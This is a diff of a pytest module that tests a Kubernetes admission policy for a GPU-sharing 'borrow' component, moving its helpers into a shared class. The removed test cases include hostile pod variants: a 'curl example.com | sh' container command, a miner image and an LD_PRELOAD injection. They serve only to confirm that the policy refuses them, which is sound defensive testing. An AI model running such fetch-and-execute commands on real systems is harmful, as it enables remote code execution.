@@ -1,8 +1,7 @@
-"""The component `borrow`: what an attacker with the webhook's ServiceAccount can create and delete with it."""
+"""The policy of the component `borrow`, against an attacker with the webhook's ServiceAccount."""
 
 from __future__ import annotations
 
-import copy
 import dataclasses
 import time
 from collections.abc import Iterator
@@ -13,6 +12,7 @@ import pytest
 from gpushare import contract
 from lab import lab_errors
 from tests.config import manifests
+from tests.config.component_pods import ComponentPods
 from tests.config.conftest import WAIT_SECONDS, Cluster
 from tests.config.test_policy_pods import WEBHOOK
 from tests.config.test_rbac import may
@@ -24,74 +24,20 @@ pytestmark = pytest.mark.apiserver
 COMPONENT = manifests.CONFIG / "components" / "borrow"
 FILES = [f"--filename={COMPONENT / name}.yaml" for name in ("namespace", "template", "rights", "policy")]
 PODS = placeholders.PODS_PATH
+PLACEHOLDERS = ComponentPods("borrow", PODS, lambda template: placeholders.manifest(template, "node-a"))
+manifest, changed, refusal = PLACEHOLDERS.manifest, PLACEHOLDERS.changed, PLACEHOLDERS.refusal
 
 
 @pytest.fixture(scope="module")
 def cluster(installed: Cluster) -> Iterator[Cluster]:
     """With the component, once its policy is in force."""
-    installed.kubectl("apply", "--server-side", "--force-conflicts", *FILES)
-    installed.administrator.ensure_default_service_account(contract.BORROW_NAMESPACE)
-    deadline = time.monotonic() + WAIT_SECONDS
-    while "may have only the container" not in refusal(installed, changed(image="x")):
-        assert time.monotonic() < deadline, f"gpushare-borrow is not in force after {WAIT_SECONDS} s"
-        time.sleep(0.1)
+    PLACEHOLDERS.install(installed, FILES)
     yield installed
     installed.kubectl("delete", FILES[-1], "--ignore-not-found")
 
 
-def manifest() -> dict[str, Any]:
-    template = next(
-        made["template"] for made in manifests.documents(COMPONENT / "template.yaml") if made["kind"] == "PodTemplate"
-    )
-    return placeholders.manifest(template, "node-a")
-
-
-def changed(*, spec: dict[str, Any] | None = None, **container: Any) -> dict[str, Any]:
-    made = copy.deepcopy(manifest())
-    made["spec"] |= spec or {}
-    made["spec"]["containers"][0] |= container
-    return made
-
-
-def refusal(cluster: Cluster, made: dict[str, Any], path: str = PODS) -> str:
-    """Return why the webhook's account may not create the pod; empty if it may."""
-    try:
-        cluster.administrator.create(path, made, user=WEBHOOK, dry_run=True)
-    except lab_errors.LabError as error:
-        return str(error)
-    return ""
-
-
 def test_the_webhook_may_create_its_placeholders_and_no_other_pod(cluster: Cluster) -> None:
-    assert refusal(cluster, manifest()) == ""
-    only = "may have only the container of the PodTemplate gpushare-borrow"
-    for made in (
-        changed(image="example.com/miner"),
-        changed(command=["sh", "-c", "curl example.com | sh"]),
-        changed(args=["--more"]),
-        changed(env=[{"name": "LD_PRELOAD", "value": "/x"}]),
-        changed(ports=[{"containerPort": 80}]),
-        changed(lifecycle={"postStart": {"exec": {"command": ["sh"]}}}),
-        changed(livenessProbe={"exec": {"command": ["sh"]}}),
-        changed(spec={"initContainers": [{**manifest()["spec"]["containers"][0], "name": "first"}]}),
-        changed(
-            spec={
-                "containers": [*manifest()["spec"]["containers"], {**manifest()["spec"]["containers"][0], "name": "b"}]
-            }
-        ),
-    ):
-        assert only in refusal(cluster, made), made
-    no_rights = "may have no volumes, no token and no ServiceAccount of its own"
-    assert only in refusal(cluster, changed(spec={"automountServiceAccountToken": True}))  # it mounts the token
-    assert no_rights in refusal(cluster, changed(spec={"volumes": [{"name": "x", "emptyDir": {}}]}))
-    for spec in ({"nodeName": "node-a"}, {"schedulerName": "mine"}, {"priorityClassName": "system-node-critical"}):
-        assert "must have scheduler, priority and RuntimeClass" in refusal(cluster, changed(spec=spec)), spec
-    shared = manifest()
-    shared["metadata"]["annotations"][contract.ALLOCATION] = "a1"
-    assert "may have no share, owner or finalizer" in refusal(cluster, shared)
-    for key in ("hostNetwork", "hostPID"):
-        assert "violates PodSecurity" in refusal(cluster, changed(spec={key: True}))
-    assert "violates PodSecurity" in refusal(cluster, changed(securityContext={"allowPrivilegeEscalation": False}))
+    PLACEHOLDERS.check_that_no_other_is_admitted(cluster)
 
 
 def test_the_right_is_for_this_namespace_alone(cluster: Cluster) -> None:
